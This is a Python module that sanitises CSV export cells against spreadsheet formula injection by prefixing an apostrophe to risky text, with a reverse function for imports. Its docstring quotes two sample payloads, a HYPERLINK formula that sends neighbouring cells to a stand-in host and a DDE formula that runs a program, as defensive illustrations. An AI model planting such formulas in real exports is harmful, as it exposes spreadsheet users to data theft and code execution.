"""Cells of the CSV files people open in a spreadsheet (exports of any module).

A cell whose text starts with ``=``, ``+``, ``-`` or ``@`` (or a tab or a carriage return
before one) is read by Excel, LibreOffice and Google Sheets as a formula: a workshop
titled ``=HYPERLINK("https://evil.example/?"&A1;"Cliquez")`` becomes a live link that
sends the neighbouring cells away, ``=cmd|' /C calc'!A0`` runs a program through DDE.
So every text cell written to such a file goes through ``safe_cell``:

- text starting with one of ``= + - @ \\t \\r`` gets a leading apostrophe, which every
  spreadsheet reads as "this is text" (OWASP, "CSV Injection"). Text that already starts
  with an apostrophe followed by one of them gets one more, so that ``restore_cell``
  gives back exactly what was written;
- a plain number (an optional sign, digits, an optional decimal part with ``.`` or
  ``,``) is left alone: a spreadsheet reads it as a number and runs nothing. Phone
  numbers in the national schema's own format (``+33…``, the pattern of its
  ``telephone`` field) are such numbers, so an open-data export stays valid. Fields of
  that schema that have a pattern (postcodes, INSEE codes, lists of set values) cannot
  start a formula otherwise; the free-text fields get the apostrophe;
- with ``max_length`` (a field limited in length, such as the schema's 280-character
  ``presentation_resume``), a quoted value that would pass the limit loses its end to
  "…", so that the file still validates;
- values that are not text (numbers, None) are returned unchanged.

``restore_cell`` is the reverse, for our own imports of such files: a leading apostrophe
followed by one of the characters above is dropped.
"""

from __future__ import annotations

import re
from collections.abc import Iterable
from typing import Any

__all__ = ["FORMULA_STARTS", "restore_cell", "safe_cell", "safe_row"]

#: What makes a spreadsheet read a cell as a formula.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
QUOTE = "'"
ELLIPSIS = "…"

_NUMBER_RE = re.compile(r"[+-]?\d+(?:[.,]\d+)?")


def _needs_quote(value: str) -> bool:
    if value.startswith(FORMULA_STARTS):
        return not _NUMBER_RE.fullmatch(value)
    return value.startswith(QUOTE) and value[1:].startswith(FORMULA_STARTS)


def safe_cell(value: Any, *, max_length: int | None = None) -> Any:
    """``value`` as it may be written to a CSV file: see the module's docstring."""
    if not isinstance(value, str) or not _needs_quote(value):
        return value
    quoted = QUOTE + value
    if max_length is not None and len(quoted) > max_length:
        quoted = quoted[: max_length - len(ELLIPSIS)] + ELLIPSIS
    return quoted


def safe_row(values: Iterable[Any]) -> list[Any]:
    """Every cell of a row through ``safe_cell``."""
    return [safe_cell(value) for value in values]


def restore_cell(value: str) -> str:
    """The text ``safe_cell`` was given, from what it wrote (an import's reverse)."""
    if value.startswith(QUOTE) and _needs_quote(value[1:]):
        return value[1:]
    return value
